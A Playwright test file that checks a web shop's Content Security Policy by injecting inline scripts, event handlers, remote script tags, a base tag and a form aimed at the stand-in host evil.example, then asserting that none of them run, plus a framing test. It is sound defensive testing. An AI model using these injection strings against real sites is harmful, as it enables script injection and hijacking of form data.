import type { Page } from '@playwright/test'
import { expect, inSlice, takeComplaints, test } from '#tests/e2e/shop-test.ts'

/** Serves a page with added HTML and its original headers. */
async function inject(page: Page, path: string, html: string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('<main', `${html}<main`)
    await route.fulfill({ response, body })
  })
}

const marks = (page: Page) => page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('injected')))

for (const [index, path] of ['/order/domains', '/webhosting'].entries()) {
  test(`no script injected into ${path} runs`, inSlice(index, 1), async ({ page, complaints }) => {
    await page.route('/evil.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.injectedFile = true' }),
    )
    await page.route('https://evil.example/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.injectedHost = true' }),
    )
    await inject(
      page,
      path,
      '<script>window.injectedInline = true</script><p onclick="window.injectedHandler = true" id="added">x</p>' +
        '<script src="/evil.js"></script><script type="module" src="/evil.js"></script>' +
        '<script async src="/evil.js"></script><script src="https://evil.example/evil.js"></script>',
    )
    await page.goto(path)
    await page.locator('#added').click()
    await expect(page.getByRole('main')).toBeVisible()
    expect(await marks(page)).toEqual([])
    await takeComplaints(complaints, /Executing inline (script|event handler) violates/)
    await takeComplaints(complaints, /Loading the script .*evil\.example.* violates|asks another host/)
    await takeComplaints(complaints, /Loading the script .* violates/)
  })

  test(
    `styles, frames, pictures and forms injected into ${path} do nothing`,
    inSlice(index, 1),
    async ({ page, complaints }) => {
      await inject(
        page,
        path,
        '<style>body { color: rgb(1, 2, 3) }</style><iframe src="/"></iframe><img src="https://evil.example/x.png">' +
          '<base href="https://evil.example/"><form id="stolen" action="https://evil.example/"><button>x</button></form>',
      )
      await page.goto(path)
      await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
      expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/)
      await expect(page.frameLocator('iframe').getByRole('main')).toHaveCount(0)
      await page.locator('#stolen button').dispatchEvent('click')
      await takeComplaints(complaints, /Sending form data/)
      await takeComplaints(complaints, /violates the following Content Security Policy|asks another host/)
    },
  )
}

test('no page can be framed', async ({ page, complaints }) => {
  await page.route('/frame', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<iframe src="/order/payment"></iframe>' }),
  )
  await page.goto('/frame')
  await takeComplaints(complaints, /frame-ancestors|X-Frame-Options/)
})
